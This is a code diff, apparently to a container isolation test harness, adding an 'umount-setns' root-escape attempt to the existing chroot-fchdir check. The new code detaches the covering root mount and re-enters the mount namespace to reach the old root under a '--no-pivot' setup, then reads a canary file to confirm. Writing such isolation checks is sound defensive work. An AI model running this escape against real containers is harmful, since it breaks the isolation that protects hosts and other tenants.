@@ -6,6 +6,10 @@
 //! `..` up to the real root of its mount namespace. After `pivot_root` with the old root
 //! detached, that real root *is* the container's root, and the walk reaches nothing.
 //!
+//! A root moved over the old one instead (MS_MOVE + chroot, `--no-pivot`) defeats the `..`
+//! walk, but the old root is still mounted underneath: detaching the covering mount and
+//! re-entering the mount namespace reaches it (`umount-setns`).
+//!
 //! Each attempt runs in a forked child, because a successful one changes the root of the
 //! process that made it.
 
@@ -34,6 +38,10 @@ pub fn attempt_escapes(canary: &str) -> EscapeReport {
         EscapeAttempt {
             method: "chroot-fchdir".into(),
             read: in_child(|| escape_fchdir(canary)),
+        },
+        EscapeAttempt {
+            method: "umount-setns".into(),
+            read: in_child(|| escape_umount_setns(canary)),
         },
     ];
     EscapeReport {
@@ -90,6 +98,27 @@ fn escape_fchdir(canary: &str) -> Probe<String> {
         // Back out through the fd held from before the chroot.
         fchdir(outside.as_fd()).map_err(|e| format!("fchdir: {e}"))?;
         walk_up_and_chroot()
+    };
+    match run() {
+        Ok(()) => read_canary(canary),
+        Err(e) => Probe::Err(e),
+    }
+}
+
+/// The escape from a root that was moved over the old one (MS_MOVE + chroot, as runtimes do
+/// with `--no-pivot`): the old root is still mounted underneath. Detaching the covering mount
+/// and re-entering the mount namespace (setns resets the root to the namespace's root) lands
+/// on it. A pivoted root has no parent mount, so the detach is refused. It runs in a copy of
+/// the mount namespace so that the agent's own stays intact.
+fn escape_umount_setns(canary: &str) -> Probe<String> {
+    use nix::mount::{umount2, MntFlags};
+    use nix::sched::{setns, unshare, CloneFlags};
+    let run = || -> Result<(), String> {
+        unshare(CloneFlags::CLONE_NEWNS).map_err(|e| format!("unshare(CLONE_NEWNS): {e}"))?;
+        let ns = fs::File::open("/proc/self/ns/mnt")
+            .map_err(|e| format!("open /proc/self/ns/mnt: {e}"))?;
+        umount2("/", MntFlags::MNT_DETACH).map_err(|e| format!("umount2(/, MNT_DETACH): {e}"))?;
+        setns(ns.as_fd(), CloneFlags::CLONE_NEWNS).map_err(|e| format!("setns(mnt): {e}"))
     };
     match run() {
         Ok(()) => read_canary(canary),
